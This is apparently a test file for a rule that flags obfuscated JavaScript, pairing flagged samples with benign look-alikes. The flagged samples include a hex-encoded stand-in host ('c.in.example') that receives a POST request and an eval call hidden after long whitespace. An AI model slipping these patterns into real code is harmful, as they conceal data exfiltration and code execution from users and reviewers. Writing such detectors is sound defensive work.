import { testRule } from '../../../testing/rule-checks.ts';
import { obfuscatedCode } from './obfuscated-code.ts';

const names = Array.from({ length: 14 }, (_, index) => `_0x${(4096 + index).toString(16)}`);

testRule(obfuscatedCode, {
  caught: [
    {
      of: 'letters out of the names of values',
      files: { 'a.js': 'b = { a: (![] + "")[1], o: ({} + "")[1], t: (!"" + "")[0] };\nb.a + b.o + b.t;\n' },
      severity: 'critical',
    },
    {
      of: 'an address out of numbers',
      files: {
        'a.js':
          "const h = Buffer.from('632e696e2e6578616d706c65', 'hex').toString();\nrequire('http').request({ hostname: h, method: 'POST' }).end('x');\n",
      },
      severity: 'critical',
      says: 'c.in.example',
    },
    {
      of: 'hexadecimal names',
      files: { 'a.js': names.map((name) => `var ${name}=1;`).join('') },
      severity: 'critical',
    },
    {
      of: 'a table that is rotated until a sum fits',
      files: {
        'a.js':
          '(function(t,n){var l=t();while(true){try{if(parseInt(b(1))/1+parseInt(b(2))/2+parseInt(b(3))/3===n)break;else l.push(l.shift());}catch(e){l.push(l.shift());}}}(a,123));\n',
      },
    },
    {
      of: 'a table behind a function that replaces itself',
      files: { 'a.js': "function a(){var h=['x','y'];a=function(){return h;};return a();}\nconsole.log(a()[0]);\n" },
    },
    { of: 'a program without letters', files: { 'a.js': '[][(![]+[])[+!![]]+(!![]+[])[+[]]]'.repeat(40) } },
    { of: 'a text of escapes', files: { 'a.js': `var a = '${'\\x61'.repeat(120)}';\n` }, severity: 'high' },
    { of: 'code far to the right', files: { 'a.js': `const a = 1;${' '.repeat(200)}eval(b)\n` }, severity: 'critical' },
  ],
  silent: [
    {
      of: 'a digest',
      files: { 'a.js': "const sum = 'd41d8cd98f00b204e9800998ecf8427e';\nfetch('https://api.example/' + sum);\n" },
    },
    {
      of: 'minified code',
      files: {
        'a.js':
          'var a=function(t,e){for(var r=[],n=0;n<t.length;n++)r.push(e(t[n]));return r};export{a as b};\n'.repeat(20),
      },
    },
    {
      of: 'a queue that turns',
      files: { 'a.js': 'export function turn(list) { list.push(list.shift()); return list; }\n' },
    },
    {
      of: 'a helper that replaces itself',
      files: {
        'a.js':
          'function kind(o) { kind = typeof Symbol ? (o) => typeof o : String; return kind(o); }\nexport default kind;\n',
      },
    },
    { of: 'one hexadecimal name', files: { 'a.js': 'const _0x1f = 31;\nexport default _0x1f;\n' } },
    { of: 'a comment far to the right', files: { 'a.js': `const a = 1;${' '.repeat(200)}// eval is not used\n` } },
    {
      of: 'a table of escapes in a large file',
      files: {
        'a.js': `export const t = '${'\\u00e4'.repeat(90)}';\n${'export const word = "word";\n'.replace('word', 'w').repeat(100)}`,
      },
    },
  ],
});
